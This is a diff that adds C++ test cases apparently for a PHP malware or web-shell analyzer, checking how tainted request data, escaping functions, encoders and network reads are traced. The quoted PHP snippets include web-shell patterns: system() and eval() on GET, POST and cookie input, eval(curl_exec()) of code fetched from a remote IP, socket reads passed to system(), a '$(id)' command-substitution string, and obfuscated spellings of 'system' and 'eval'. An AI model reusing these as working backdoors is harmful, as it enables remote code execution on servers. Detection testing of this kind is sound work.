@@ -146,6 +146,25 @@ TEST_F(ReachBuiltins, MarkersSurviveTransforms) {
        "<?php f(strpos('abcabc', 'c'), strpos('abcabc', 'c', 3), stripos('ABC', 'b'), strpos('abc', 'z'), "
        "strpos($u, 'a'), strpos('abc', 'a', -2), strpos('abc', 'a', 9));",
        {"f(0|3|/||||)"}, {"f(||||||)"}},
+      {"escapeshellarg quotes and marks request data as escaped; escapeshellcmd keeps it plain only where it names the program",
+       "<?php system('convert ' . escapeshellarg($_GET['f']) . ' out.png'); system(escapeshellcmd($_POST['c'])); "
+       "f(escapeshellarg(\"it's\"), escapeshellarg($_FILES['u']['name'] . $_SERVER['HTTP_X']), escapeshellarg(''), "
+       "escapeshellcmd('a;b \"c\" \\'d'), escapeshellcmd('x\"y'), escapeshellcmd('$(id)|`w`')); "
+       "f(escapeshellcmd('tar xf ' . $_GET['a'] . ' ' . $_COOKIE['b']), escapeshellcmd(' ' . $_GET['p'] . ' -v'));",
+       {"system(convert '$_ESCAPED_GET_DATA' out.png)", "system(\\$_POST_DATA)",
+        "f('it'\\''s'|'$_ESCAPED_FILES_DATA_DATA$_ESCAPED_SERVER_DATA_HTTP'|''|a\\;b \"c\" \\'d|x\\\"y|\\$\\(id\\)\\|\\`w\\`)",
+        "f(tar xf \\$_ESCAPED_GET_DATA \\$_ESCAPED_COOKIE_DATA| \\$_GET_DATA -v)"},
+       {"system(convert  out.png)", "system()", "f(|||||)", "f(|)"}},
+      {"escaped markers are carried through transforms like the others",
+       "<?php system(strtolower('LS ' . escapeshellarg($_COOKIE['d']))); system(strrev(escapeshellarg($_GET['x'])));",
+       {"system(ls '$_escaped_cookie_data'$_ESCAPED_COOKIE_DATA)", "system('ATAD_TEG_DEPACSE_$'$_ESCAPED_GET_DATA)"},
+       {"system(ls )", "system(qz_invalid_string)"}},
+      {"bin2hex gives hex digits, request data stays request data, hex2bin undoes it",
+       "<?php f(bin2hex('sys'), bin2hex($_GET['c']), hex2bin(bin2hex('eval')), bin2hex(''));",
+       {"f(737973|$_GET_DATA|eval qz_decoded|)"}, {"f(|||)"}},
+      {"str_replace reads a bare constant the script never defined as its own name",
+       "<?php f(str_replace(x, '', 'sxyxstxem'), str_replace('#', y, 'a#b'), str_replace(Q, '', 'aQb'));",
+       {"f(system|ayb|ab)"}, {"f(qz_invalid_string|qz_invalid_string|qz_invalid_string)"}},
       {"the decoded marker and decoders of request data",
        "<?php eval(strrev(gzinflate('x'))); eval(hex2bin($_REQUEST['h'])); system(preg_replace('/_/', '', $_GET['c']));",
        {"eval(qz_decoded)", "eval($_REQUEST_DATA qz_decoded)", "system($_GET_DATA)"},
@@ -194,6 +213,18 @@ TEST_F(ReachBuiltins, RequestDataFromOtherSources) {
        "$f = fopen('a.txt', 'r'); system(fgets($f));",
        {"system($_SOCKET_HANDLE)", "system($_SOCKET_HANDLE)", "system($_FILE_CONTENTS)"},
        {"system($_FILE_CONTENTS)", "system($_FILE_CONTENTS)", "system($_FILE_CONTENTS)"}},
+      {"downloads and socket reads are text off the network; other sockets too",
+       "<?php $c = curl_init('http://203.0.113.5/p'); eval(curl_exec($c)); $s = socket_create(2, 1, 6); "
+       "system(socket_read($s, 99)); $p = stream_socket_client('tcp://203.0.113.5:80'); system(fgets($p)); "
+       "$q = pfsockopen('203.0.113.5', 80); system(fread($q, 9));",
+       {"eval($_REMOTE_FILE_CONTENTS)", "system($_SOCKET_HANDLE)", "system($_SOCKET_HANDLE)", "system($_SOCKET_HANDLE)"},
+       {"eval()", "system()", "system($_FILE_CONTENTS)", "system($_FILE_CONTENTS)"}},
+      {"a handle opened for writing keeps its path; reading handles do not",
+       "<?php $w = fopen($_GET['p'], 'w'); f($w, fopen('x.php', 'a+'), fopen('c/' . $_POST['n'], 'xb'), fopen('a.txt', 'r'), "
+       "fopen('b.txt', 'rw'), fopen('c.txt', $m)); system(fread($w, 9));",
+       {"f($_FILE_HANDLE $_GET_DATA|$_FILE_HANDLE x.php|$_FILE_HANDLE c/$_POST_DATA|$_FILE_HANDLE|$_FILE_HANDLE|$_FILE_HANDLE)",
+        "system($_FILE_CONTENTS)"},
+       {"f($_FILE_HANDLE|$_FILE_HANDLE|$_FILE_HANDLE|$_FILE_HANDLE|$_FILE_HANDLE|$_FILE_HANDLE)", "system($_FILE_CONTENTS)"}},
       {"the request body, read whole or through a handle",
        "<?php eval(file_get_contents('php://input')); $fp = fopen('PHP://Input', 'r'); eval(fread($fp, 100)); "
        "eval(fgets($fp)); eval(stream_get_contents($fp)); eval(file_get_contents('/etc/x'));",
